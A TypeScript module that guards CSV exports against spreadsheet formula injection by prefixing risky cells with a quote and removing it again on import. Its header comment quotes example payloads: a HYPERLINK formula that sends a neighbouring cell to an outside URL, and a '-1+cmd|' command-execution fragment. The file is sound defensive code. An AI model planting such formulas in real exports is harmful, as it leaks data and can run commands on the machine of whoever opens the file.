// Spreadsheet cells safe in Excel (OWASP "CSV Injection"): a cell that starts with = + - @,
// a tab or a carriage return may be run as a formula when an operator opens the file
// (=HYPERLINK("http://…?"&A2,"열기") sends the next cell to a stranger). Every exported cell
// that could is written with a leading ' — Excel shows it as text — and every import takes
// that ' off again, so an export imported as it is changes nothing.
//
// Numbers are no exception: -5 (an extra price) is written '-5 too. A rule with exceptions is
// one more place to be wrong (-1+cmd|… also starts like a number), and the import reads
// '-5 as -5, so the round trip holds; Excel shows the cell as text, which is what it is here.

/** Characters that make Excel (or LibreOffice, Google Sheets) read a cell as a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;
/**
 * A cell the export had to prefix: one or more ' followed by a formula start. A value that
 * itself begins with ' and a formula start ("'=1") gets one more, so taking one off on
 * import gives it back exactly.
 */
const NEUTRALISED = /^'+[=+\-@\t\r]/;

/** The cell as an export writes it: a leading ' when Excel could take it for a formula. */
export function neutraliseCell(value: string): string {
  return FORMULA_START.test(value) || NEUTRALISED.test(value) ? `'${value}` : value;
}

/** The cell as an import reads it: the export's leading ' taken off again (and only that one). */
export function restoreCell(cell: string): string {
  return NEUTRALISED.test(cell) ? cell.slice(1) : cell;
}

/** How much of a cell an error message repeats: enough to find it, never the whole of a huge one. */
export const CELL_QUOTE_MAX = 100;

/** The start of a cell, as an error message may repeat it: whole up to CELL_QUOTE_MAX characters, else cut there with "…". */
export function cellExcerpt(cell: string): string {
  // Characters, not UTF-16 units, so an emoji is never cut in half; 2 units each at most, and one more to see there are more.
  const chars = [...cell.slice(0, CELL_QUOTE_MAX * 2 + 2)];
  return chars.length > CELL_QUOTE_MAX ? `${chars.slice(0, CELL_QUOTE_MAX).join('')}…` : cell;
}

/** A cell quoted in an error message: "…" around its excerpt. */
export function quoteCell(cell: string): string {
  return `"${cellExcerpt(cell)}"`;
}
